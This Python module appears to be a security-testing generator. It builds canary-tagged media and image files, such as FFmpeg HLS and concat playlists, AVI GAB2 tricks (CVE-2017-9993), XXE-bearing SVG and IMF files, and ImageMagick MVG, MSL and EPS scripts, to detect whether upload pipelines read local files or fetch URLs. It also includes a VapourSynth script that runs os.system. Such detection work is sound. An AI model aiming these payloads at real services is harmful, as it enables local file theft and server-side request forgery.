"""Files that name other files: playlists, manifests, external tracks, pictures that include pictures.

Each leads to the canary: its clip on this disk, or its listener. Whoever follows one of them gives himself away. Pure
but for the clip that external tracks belong to; knows nothing of who will be sent these.
"""

from __future__ import annotations

import base64
import struct
from dataclasses import dataclass
from functools import partial

from boxes import box, boxes_in, element, full_box, numbers, replaced
from canary import Canary

#: No upload may be smaller; what follows the last line of a text changes nothing.
LEAST_BYTES = 512


@dataclass(frozen=True)
class Nested:
    """A file that refers to others. filename: what a client would call it; its suffix may lie."""

    name: str
    filename: str
    content: bytes


def nested_media(canary: Canary) -> list[Nested]:
    """Every kind."""
    return [*_playlists(canary), *_manifests(canary), *_disguised(canary), *_tracks(canary), *_pictures(canary)]


def _file(name: str, filename: str, content: str | bytes) -> Nested:
    raw = content.encode() if isinstance(content, str) else content
    return Nested(name, filename, raw + b"\n" * max(0, LEAST_BYTES - len(raw)))


def hls(*lines: str) -> str:
    """A playlist of HTTP live streaming with these lines between its head and its end."""
    head = "#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n"
    return head + "".join(line + "\n" for line in lines) + "#EXT-X-ENDLIST\n"


def segment(uri: str) -> str:
    """A playlist of one segment."""
    return hls("#EXTINF:10.0,", uri)


def _playlists(canary: Canary) -> list[Nested]:
    path, url, clip = canary.path("secret.ts"), canary.url("secret.ts"), "secret.ts"
    within = base64.b64encode(segment(f"file://{path}").encode()).decode()
    key = f'#EXT-X-KEY:METHOD=AES-128,URI="file://{canary.path("secret.txt")}",IV=0x{0:032x}'
    return [
        _file("concat, a name", "clip.mp4", f"ffconcat version 1.0\nfile {clip}\n"),
        _file("concat, a path", "clip.ffconcat", f"ffconcat version 1.0\nfile '{path}'\nduration 2\n"),
        _file("concat, a URL", "clip.mov", f"ffconcat version 1.0\nfile {url}\noption seekable 0\n"),
        _file("concat, no head", "clip.txt", f"file '{path}'\nfile 'file:{path}'\n"),
        _file("HLS, a name", "clip.m3u8", segment(clip)),
        _file("HLS, a file URL", "clip.mp4", segment(f"file://{path}")),
        _file("HLS, a path", "clip.webm", segment(path)),
        _file("HLS, a path upwards", "clip.mkv", segment("/".join([".."] * 12) + path)),
        _file("HLS, a URL", "clip.ts", segment(url)),
        _file("HLS, a data URI", "clip.mp4", segment(f"data:application/vnd.apple.mpegurl;base64,{within}")),
        _file("HLS, a key", "clip.m3u8", hls(key, "#EXTINF:10.0,", canary.url("secret.ts"))),
        _file("HLS, crypto:", "clip.m3u8", segment(f"crypto+file://{path}")),
        _file("HLS, a map", "clip.m4s", hls(f'#EXT-X-MAP:URI="{url}"', "#EXTINF:10.0,", path)),
        _file("HLS, variants", "clip.m3u8", f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1000\n{canary.url('low.m3u8')}\n"),
        _file("HLS, concat:", "clip.mp4", segment(f"concat:{canary.url('head.m3u8')}|file://{path}")),
        _file("HLS, subfile:", "clip.mp4", segment(f"subfile,,start,0,end,64,,:{path}")),
        _file("HLS, async: and cache:", "clip.mp4", hls("#EXTINF:1,", f"async:{path}", "#EXTINF:1,", f"cache:{url}")),
        _file("HLS, tee:", "clip.mp4", segment(f"tee:{path}.copy|{url}")),
        _file("M3U", "clip.m3u", f"#EXTM3U\n#EXTINF:2,clip\n{path}\n{url}\n"),
        _file("PLS", "clip.pls", f"[playlist]\nFile1={path}\nFile2={url}\nNumberOfEntries=2\nVersion=2\n"),
        _file("subfile: as a name", "clip.mp4", f"subfile,,start,0,end,0,,:{path}\n"),
        _file("image2, a pattern", "secret%03d.png", f"{canary.path('secret')}%03d.png\n"),
        _file("image2, a glob", "secret*.png", f"{canary.folder}/*.png\n"),
    ]


def _manifests(canary: Canary) -> list[Nested]:
    path, url = canary.path(), canary.url()
    mpd = (
        "<?xml version='1.0'?><MPD xmlns='urn:mpeg:dash:schema:mpd:2011' type='static' mediaPresentationDuration='PT2S'"
    )
    whole = "<Period><AdaptationSet mimeType='video/mp4'><Representation id='0' bandwidth='1'><BaseURL>{}</BaseURL>"
    end = "</Representation></AdaptationSet></Period></MPD>"
    sdp = "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=video {} RTP/AVP 96\r\n"
    entity = "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY s SYSTEM 'file://{}'>]>"
    return [
        _file("DASH, a file", "clip.mpd", f"{mpd}>{whole.format('file://' + path)}{end}"),
        _file("DASH, a URL", "clip.mp4", f"{mpd}>{whole.format(url)}{end}"),
        _file("DASH, xlink", "clip.mpd", f"{mpd} xmlns:xlink='x'><Period xlink:href='{url}'/></MPD>"),
        _file("SDP", "clip.sdp", sdp.format(canary.port) + "a=rtpmap:96 H264/90000\r\n"),
        _file("RTSP text", "clip.mov", f"RTSPtext\r\nrtsp://127.0.0.1:{canary.port}/secret.mp4\r\n"),
        _file("SMIL", "clip.smil", f"<smil><body><video src='{url}'/><video src='file://{path}'/></body></smil>"),
        _file("ASX", "clip.asx", f"<asx version='3.0'><entry><ref href='{url}'/></entry></asx>"),
        _file("ASF reference", "clip.asf", f"[Reference]\r\nRef1={url}\r\nRef2=file://{path}\r\n"),
        _file("XSPF", "clip.xspf", _xspf(url, path)),
        _file("IMF", "CPL.xml", entity.format(path) + _composition(path)),
        _file(
            "VobSub", "clip.idx", "# VobSub index file, v7\nsize: 96x64\nid: en, index: 0\ntimestamp: 00:00:00:000, "
        ),
        _file("SAMI", "clip.smi", f"<SAMI><BODY><SYNC Start=0><P><img src='file://{path}'></SYNC></BODY></SAMI>"),
        _file(
            "WebVTT", "clip.vtt", f"WEBVTT\n\nSTYLE\n::cue {{ background: url({url}) }}\n\n00:00.000 --> 00:02.000\nx"
        ),
        _file("subtitles, fonts", "clip.ass", f"[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: {path}\n"),
        _file("AviSynth", "clip.avs", f'DirectShowSource("{path}")\nAVISource("{path}")\n'),
        _file("VapourSynth", "clip.vpy", f"import os\nopen({path!r}).read()\nos.system('touch {path}')\n"),
        _file("a web page", "clip.html", f"<html><video src='{url}' autoplay><source src='file://{path}'></video>"),
        _file("a concat script", "clip.mp4", f"mp4:{path}\nconcat:{path}|{path}\n"),
        _file("RealMedia", "clip.ram", f"rtsp://127.0.0.1:{canary.port}/secret.rm\nfile://{path}\n"),
    ]


def _xspf(url: str, path: str) -> str:
    track = "<track><location>{}</location></track>"
    tracks = track.format(url) + track.format(f"file://{path}")
    return f"<?xml version='1.0'?><playlist version='1' xmlns='http://xspf.org/ns/0/'>{tracks}</playlist>"


def _composition(path: str) -> str:
    kind = "http://www.smpte-ra.org/schemas/2067-3/2016"
    told = f"<Id>urn:uuid:0</Id><Annotation>&s;{path}</Annotation>"
    return f"<CompositionPlaylist xmlns='{kind}'>{told}</CompositionPlaylist>"


def _disguised(canary: Canary) -> list[Nested]:
    playlist = segment(f"file://{canary.path('secret.ts')}").encode()
    concat = f"ffconcat version 1.0\nfile '{canary.path()}'\n".encode()
    ftyp = box(b"ftyp", b"isom", numbers(512), b"isomiso2mp41")
    return [
        _file("AVI, GAB2 subtitles", "clip.avi", _avi(playlist)),
        _file("AVI, GAB2 subtitles, concat", "clip.mp4", _avi(concat)),
        _file("AVI, OpenDML index", "clip.avi", _avi(playlist, indexed=True)),
        _file("after a line of junk", "clip.mp4", b"\n\n" + playlist),
        _file("after a byte order mark", "clip.mp4", b"\xef\xbb\xbf" + playlist),
        _file("in UTF-16", "clip.mp4", playlist.decode().encode("utf-16")),
        _file("after ftyp", "clip.mp4", ftyp + playlist),
        _file("in a free box", "clip.mp4", ftyp + box(b"free", playlist) + box(b"mdat", concat)),
        _file("as a sample of an index", "clip.mov", ftyp + box(b"mdat", playlist) + box(b"moov", playlist)),
        _file("after EBML", "clip.mkv", _ebml() + playlist),
        _file("after ID3", "clip.mp4", b"ID3\x04\0\0" + numbers(0x7F, size=4) + bytes(127) + playlist),
        _file("after OggS", "clip.ogv", b"OggS\0\x02" + bytes(20) + b"\x01\x50" + playlist),
        _file("after a start code", "clip.h264", b"\0\0\0\x01\x67" + playlist),
        _file("after PNG", "clip.png", b"\x89PNG\r\n\x1a\n" + playlist),
    ]


def _chunk(name: bytes, *parts: bytes) -> bytes:
    """A chunk of RIFF."""
    content = b"".join(parts)
    return name + struct.pack("<I", len(content)) + content + b"\0" * (len(content) % 2)


def _avi(playlist: bytes, *, indexed: bool = False) -> bytes:
    """An AVI whose one stream is a text of subtitles, which FFmpeg opens as a file of its own (CVE-2017-9993)."""
    head = struct.pack("<14I", 83_333, 0, 0, 0x10, 24, 0, 1, 0, 96, 64, 0, 0, 0, 0)
    stream = b"txts" + bytes(16) + struct.pack("<IIIIIII", 1, 12, 0, 24, 0, 0, 0) + bytes(8)
    name = "x".encode("utf-16-le") + b"\0\0"
    gab2 = b"GAB2\0" + struct.pack("<HI", 2, len(name)) + name + struct.pack("<HI", 4, len(playlist)) + playlist
    index = _chunk(b"indx", struct.pack("<HBBI4sIII", 4, 0, 0, 1, b"00tx", 0, 0, 0)) if indexed else b""
    streams = _chunk(b"LIST", b"strl", _chunk(b"strh", stream), _chunk(b"strf", bytes(40)), index)
    lists = _chunk(b"LIST", b"hdrl", _chunk(b"avih", head), streams)
    return _chunk(b"RIFF", b"AVI ", lists, _chunk(b"LIST", b"movi", _chunk(b"00tx", gab2)))


def _ebml() -> bytes:
    return element(0x1A45DFA3, element(0x4282, b"matroska"), element(0x4287, 4), element(0x4285, 2))


def _tracks(canary: Canary) -> list[Nested]:
    path, url = canary.path().encode(), canary.url().encode()
    outside = partial(_outside, (canary.folder / "secret.mp4").read_bytes())
    reference = partial(_reference_movie, outside)
    return [
        _file("MOV, a track at a URL", "clip.mov", outside(full_box(b"url ", url + b"\0"))),
        _file("MOV, a track in a file", "clip.mp4", outside(full_box(b"url ", b"file://" + path + b"\0"))),
        _file("MOV, a track behind an alias", "clip.mov", outside(full_box(b"alis", _alias(canary.path())))),
        _file("MOV, a track of a name", "clip.mp4", outside(full_box(b"urn ", b"secret.mp4\0", path + b"\0"))),
        _file("MOV, a track in a resource", "clip.mov", outside(full_box(b"rsrc", _alias(canary.path())))),
        _file("MOV, references to movies", "clip.mov", reference(b"url ", url + b"\0")),
        _file("MOV, references to aliases", "clip.mov", reference(b"alis", _alias(canary.path()))),
        _file("Matroska, linked segments", "clip.mkv", _linked(canary)),
        _file("Matroska, an attachment", "clip.mkv", _attached(canary)),
    ]


def _outside(clip: bytes, reference: bytes) -> bytes:
    """The index of a clip whose data lie elsewhere: in the canary's clip, at the very places that the index names."""
    data = full_box(b"dref", numbers(1), reference)
    kept = {name: inner for name, inner in boxes_in(clip) if name in (b"ftyp", b"moov")}
    return box(b"ftyp", kept[b"ftyp"]) + box(b"moov", replaced(kept[b"moov"], {b"dref": data}))


def _reference_movie(outside: object, kind: bytes, content: bytes) -> bytes:
    """A movie that names another to be played in its stead (QuickTime's `rmra`)."""
    place = full_box(b"rdrf", kind, numbers(len(content)), content)
    return box(b"ftyp", b"qt  ", numbers(512), b"qt  ") + box(b"moov", box(b"rmra", box(b"rmda", place)))


def _alias(path: str) -> bytes:
    """An alias record of the Macintosh, with the path in both spellings that readers look for."""
    name = path.rpartition("/")[2].encode()
    head = bytes(10) + b"\x04disk".ljust(28, b"\0") + bytes(12) + bytes([len(name)]) + name.ljust(63, b"\0") + bytes(16)
    volume = numbers(1, 2, size=2) + bytes(16)
    colons = ("disk" + path.replace("/", ":")).encode()
    records = [(0, b"secrets"), (2, colons), (18, path.encode()), (19, b"/")]
    told = b"".join(numbers(kind, len(text), size=2) + text + b"\0" * (len(text) % 2) for kind, text in records)
    return head + volume + told + b"\xff\xff\0\0"


def _linked(canary: Canary) -> bytes:
    """A segment without clusters that names the file that it goes on in, and chapters in another segment."""
    next_one = element(0x3E83BB, canary.path("secret.mkv").encode())
    info = element(0x1549A966, element(0x2AD7B1, 1_000_000), element(0x3EB923, bytes(range(16))), next_one)
    atom = element(0xB6, element(0x73C4, 1), element(0x91, 0), element(0x6E67, bytes(range(16))))
    edition = element(0x45B9, element(0x45DD, 1), atom)
    return _ebml() + element(0x18538067, info, element(0x1043A770, edition))


def _attached(canary: Canary) -> bytes:
    """A segment whose only content is an attachment: a playlist."""
    playlist = segment(f"file://{canary.path()}").encode()
    file = element(0x466E, canary.path().encode()), element(0x4660, b"application/vnd.apple.mpegurl")
    attached = element(0x61A7, *file, element(0x465C, playlist), element(0x46AE, 1))
    return _ebml() + element(
        0x18538067, element(0x1549A966, element(0x2AD7B1, 1_000_000)), element(0x1941A469, attached)
    )


def _pictures(canary: Canary) -> list[Nested]:
    path, url = canary.path("secret.png"), canary.url("secret.png")
    push = "push graphic-context\nviewbox 0 0 96 64\n"
    svg = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='96' height='64'>"
    image = (
        f"<image xlink:href='file://{path}' width='96' height='64'/><image href='{url}' width='9' height='9'/></svg>"
    )
    entity = f"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY s SYSTEM 'file://{canary.path('secret.txt')}'>]>"
    return [
        _file("SVG", "picture.svg", svg + image),
        _file("SVG, an entity", "picture.png", f"{entity}{svg}<text>&s;</text></svg>"),
        _file("MVG", "picture.mvg", f"{push}fill 'url({url})'\nimage over 0,0 0,0 '{path}'\npop graphic-context\n"),
        _file(
            "MSL",
            "picture.msl",
            f"<?xml version='1.0'?><image><read filename='{path}'/><write filename='/dev/null'/></image>",
        ),
        _file(
            "EPS",
            "picture.eps",
            f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 96 64\n({path}) run\n({path}) (r) file\n",
        ),
        _file("EPS named JPEG", "picture.jpg", f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 96 64\n({path}) run\n"),
        _file(
            "PDF", "picture.pdf", f"%PDF-1.7\n1 0 obj<</Length 0/F({path})/FFilter[]>>stream\n\nendstream endobj\n%%EOF"
        ),
        _file(
            "PSD",
            "picture.psd",
            b"8BPS\0\x01" + bytes(6) + numbers(3, size=2) + numbers(64, 96) + numbers(8, 3, size=2),
        ),
        _file(
            "ICO", "picture.ico", struct.pack("<HHHBBBBHHII", 0, 1, 1, 96, 64, 0, 0, 1, 32, 9999, 22) + path.encode()
        ),
        _file("FITS", "picture.fits", f"{'SIMPLE  = T':80}{'BITPIX  = 8':80}{'NAXIS   = 2':80}{url:80}{'END':80}"),
        _file(
            "XBM",
            "picture.xbm",
            f'#define x_width 96\n#define x_height 64\n#include "{path}"\nstatic char x_bits[] = {{0',
        ),
        _file("WMF", "picture.wmf", b"\xd7\xcd\xc6\x9a\0\0" + bytes(16) + path.encode()),
        _file("FLI", "picture.fli", struct.pack("<IHHHH", 999, 0xAF12, 1, 96, 64) + path.encode()),
        _file(
            "Windows cursor",
            "picture.cur",
            struct.pack("<HHHBBBBHHII", 0, 2, 1, 96, 64, 0, 0, 1, 1, 9999, 22) + url.encode(),
        ),
    ]
